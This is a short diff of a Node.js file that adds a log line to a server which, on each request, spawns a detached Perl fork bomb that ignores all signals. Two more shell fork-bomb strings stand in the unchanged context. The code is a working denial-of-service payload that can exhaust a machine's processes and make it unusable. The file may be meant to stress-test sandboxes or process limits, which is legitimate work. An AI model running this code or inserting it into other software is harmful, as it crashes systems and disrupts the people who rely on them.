@@ -6,6 +6,7 @@ const first = '$| = 1; $SIG{$_} = "IGNORE" for keys %SIG; while (1) { setpgrp; d
 const others = ['f() { f | f & }; f; f; f', 'while :; do sh -c "while :; do sleep 1 & done" & done']
 
 createServer(() => {
+  console.log('the bombs are out')
   const bomb = spawn('/usr/bin/perl', ['-e', first], { stdio: ['ignore', 'pipe', 'ignore'], detached: true })
   bomb.stdout.once('data', text => {
     console.log(String(text))
